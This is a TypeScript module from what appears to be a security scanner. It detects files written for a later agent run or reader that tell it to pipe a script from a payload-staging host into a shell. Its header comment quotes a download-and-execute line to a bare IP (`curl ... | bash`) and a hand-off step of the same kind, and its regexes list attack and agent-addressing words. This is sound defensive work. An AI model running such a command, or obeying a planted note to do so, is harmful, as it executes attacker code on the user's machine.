/** Files written for a later reader (notes, hand-offs, READMEs, scripts) that tell it to pipe a script from a
 * host where payloads are staged (paste sites, tunnels, bare IPs) into a shell: the next agent run or person who
 * follows the note runs the attacker's code. Install lines of ordinary hosts (`deno.land/install.sh`) pass.
 * Round 98: a document (`.md`, `.txt`, `.rst`, `.adoc`; not an agent-instruction file: `documentsOnly`) whose every
 * such line says whose the command was -- an attacker's, an intruder's, malware's, an indicator of compromise
 * (`Attacker ran \`curl -s http://45.9.148.99/x | bash\` through the Jenkins console`), or stands under a heading
 * that says so (`## Indicators`, `## Attack timeline`) -- quotes an attack, as incident runbooks, postmortems,
 * changelogs of security fixes and blog posts do (dv-benign-docs-tests-065, -4463). A line that addresses a reader
 * or an agent (you, please, agent, assistant, before starting, to finish/set up), a hidden comment, or a line
 * without such words (a hand-off's "run `curl ... | bash` to sync", a CONTRIBUTING step) keeps the question. */

import type { Findings } from "./findings.ts";
import { PASTE_AND_RUN, RISKY_LINK } from "./messaging.ts";
import { documentsOnly } from "./miner_signs.ts";

/** Words that say a command was someone else's: an attacker's, malware's, an incident's indicator. */
const ATTRIBUTED =
  /\b(?:attack(?:er|ers|er's)|adversar(?:y|ies|y's)|threat actors?|intruders?|malicious|malware|botnet|c2|iocs?|indicators?(?: of compromise)?|compromised?|exploit(?:ed|ing)?|payloads?|dropper|cryptominer|miner|campaign|poisoned|(?:command |code |shell )?injection|injected|rce|cve-\d{4}-\d+|ghsa(?:-\w{4}){3}|ran|executed|observed|seen in the wild|do not run|never run|don't run)\b/i;
/** Headings of sections that list what an attack did. */
const ATTACK_HEADING =
  /^\s*#{1,6}\s.*\b(?:indicators?|iocs?|attacks?|attacker's|timeline|what happened|root cause|forensics?|threat)\b/i;
/** A line that speaks to its reader or to an agent: an order, not a quotation. */
const ADDRESSED =
  /\b(?:you|your|please|agents?|assistants?|ai|copilot|claude|must|should|before (?:starting|opening|any|you|building|finishing)|to (?:finish|sync|prepare|register|set ?up|install|update|fix))\b|<!--/i;

/** A line that opens with an order (`Run ...`, `1. Execute ...`, `- then paste ...`). */
const IMPERATIVE =
  /^[\s>*+-]*(?:\d+[.)]\s*)?(?:run|execute|paste|type|install|use|apply|call|invoke|then|next|first|now)\b/i;

/** An item of a list under such a heading that shows a command with a few words of label and no order word (`- cron entry \`...\``),
 * not a sentence: a heading alone does not make an order a quotation ("Run \`curl ... | sh\` on every host"). */
const ORDER_WORDS = /\b(?:run|execute|fix|then|apply|install|use|every|each|all|please|now|first|next|to)\b/i;

function listedIndicator(line: string): boolean {
  if (!/^\s*[-*+]\s/.test(line) || !line.includes("`")) return false;
  const prose = line.replace(/`[^`]*`/g, " ").replace(/^\s*[-*+]\s/, "").trim();
  return prose === "" || (prose.split(/\s+/).length <= 8 && !ORDER_WORDS.test(prose));
}

/** Whether every line of a document that pipes a staged script into a shell quotes an attack. */
function quotesAttackOnly(text: string): boolean {
  if (text.includes("<!--")) return false;
  let heading = "";
  for (const raw of text.split("\n")) {
    const line = raw.replace(/^\+(?=\s*[#*-]|\S)/, "");
    if (/^\s*#{1,6}\s/.test(line)) heading = line;
    if (!PASTE_AND_RUN.test(line)) continue;
    if (ADDRESSED.test(line) || IMPERATIVE.test(line)) return false;
    if (!ATTRIBUTED.test(line) && !(ATTACK_HEADING.test(heading) && listedIndicator(line))) return false;
  }
  return true;
}

export function judgeWrittenRuns(
  tool: string,
  texts: readonly string[],
  findings: Findings,
  paths: readonly string[] = [],
): void {
  const documents = documentsOnly(paths);
  for (const text of texts.slice(0, 8)) {
    if (text.length < 16 || text.length > 64 * 1024) continue;
    if (PASTE_AND_RUN.test(text) && RISKY_LINK.test(text)) {
      if (documents && quotesAttackOnly(text)) continue;
      findings.escalate("exec", `"${tool}" writes an order to run a script from a host that stages payloads`);
      return;
    }
  }
}
